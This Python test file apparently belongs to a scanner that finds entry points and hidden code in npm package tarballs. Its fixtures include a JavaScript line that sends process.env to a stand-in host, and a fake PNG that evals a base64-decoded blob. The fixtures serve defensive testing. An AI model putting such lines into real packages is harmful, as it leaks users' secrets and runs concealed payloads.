from __future__ import annotations

from assay.assessment.patience import Patience
from assay.assessment.sources import MAX_GAPS, sources_of
from assay.model.integrity import Integrity
from assay.model.manifest import Manifest, manifest_from
from assay.model.source import SourceFile
from assay.model.tarball import Member, Tarball


def tarball(files: dict[str, bytes | None]) -> Tarball:
    members = tuple(
        Member(path, len(data or b""), head=(data or b"")[:4096], data=data) for path, data in files.items()
    )
    return Tarball(Integrity.of(b""), 0, 0, members)


def read(files: dict[str, bytes | None], manifest: Manifest | None = None) -> dict[str, SourceFile]:
    return {each.path: each for each in sources_of(tarball(files), manifest or Manifest())[0]}


def test_main_defaults_to_index_and_is_followed() -> None:
    files = read({"index.js": b"require('./lib/a'); import('./b.mjs')", "lib/a.js": b"", "b.mjs": b"", "c.js": b""})
    assert {path: file.reached_by for path, file in files.items()} == {
        "index.js": ("main",),
        "lib/a.js": ("main",),
        "b.mjs": ("main",),
        "c.js": (),
    }


def test_scripts_and_commands_are_entry_points() -> None:
    manifest = manifest_from(
        {"name": "p", "scripts": {"postinstall": "node ./setup.js && echo"}, "bin": {"cli": "cli"}, "main": "lib"}
    )
    files = read({"setup.js": b"", "cli": b"#!/usr/bin/env node\n", "lib/index.js": b"", "LICENSE": b""}, manifest)
    assert {path: file.reached_by for path, file in files.items()} == {
        "setup.js": ("postinstall",),
        "cli": ("bin cli",),
        "lib/index.js": ("main",),
    }


def test_a_file_that_is_reached_but_not_kept_is_a_gap() -> None:
    sources, gaps = sources_of(tarball({"index.js": None, "other.js": None}), Manifest())
    assert not sources
    assert [gap.what for gap in gaps] == ["index.js, reached by main"]


def test_types_and_texts_are_not_read() -> None:
    assert read({"index.d.ts": b"", "README.md": b"", "a.json": b""}) == {}


DUMP = b"require('https').get('https://a.invalid/' + process.env)\n"


def test_a_file_that_takes_too_long_is_a_gap_and_the_others_are_read() -> None:
    files = tarball({"a.js": DUMP, "index.js": DUMP * 2_000})
    ticks = iter(range(10**9))
    sources, gaps = sources_of(files, Manifest(), Patience(lambda: next(ticks) / 20))
    assert [gap.what for gap in gaps] == ["index.js, reached by main"]
    assert [file.path for file in sources if file.flows and not file.unread] == ["a.js"]


def test_gaps_are_counted_beyond_some() -> None:
    files: dict[str, bytes | None] = {f"{number}.js": None for number in range(MAX_GAPS + 3)}
    files["index.js"] = "".join(f"require('./{path}');" for path in files).encode()
    _, gaps = sources_of(tarball(files), Manifest())
    assert (len(gaps), gaps[-1].what) == (MAX_GAPS + 1, "3 more files")


def test_machine_code_that_is_reached_is_no_gap() -> None:
    program = Member("tool", 90_000, head=b"\x7fELF\x02\x01")
    index = Member("index.js", 20, data=b"f(__dirname + '/tool')")
    assert sources_of(Tarball(Integrity.of(b""), 0, 0, (program, index)), Manifest())[1] == ()


def test_a_picture_or_font_that_is_reached_is_no_gap_and_a_payload_in_its_clothes_is_read() -> None:
    main = b"for (const each of ['a', 'b']) load(path.join(__dirname, 'logo.png'), path.join(__dirname, 'fake.png'))"
    files = tarball(
        {
            "index.js": main,
            "logo.png": b"\x89PNG\r\n\x1a\n\0\0",
            "fake.png": b"/*\0\x89PNG*/ eval(Buffer.from(blob, 'base64').toString())",
        }
    )
    found, gaps = sources_of(files, Manifest())
    assert [file.path for file in found if file.reached_by] == ["fake.png", "index.js"]
    assert gaps == ()
    assert next(file for file in found if file.path == "fake.png").flows


def test_only_a_file_that_could_be_code_is_missed_when_it_is_not_kept() -> None:
    main = b"load(path.join(__dirname, 'big.ttf')); load(path.join(__dirname, 'big.txt'))"
    members = (
        Member("index.js", len(main), head=main, data=main),
        Member("big.ttf", 90_000_000, head=b"\0\1\0\0\0\x0f", data=None),
        Member("big.txt", 90_000_000, head=b"run()", data=None),
    )
    _, gaps = sources_of(Tarball(Integrity.of(b""), 0, 0, members), Manifest())
    assert [gap.what for gap in gaps] == ["big.txt, reached by main"]
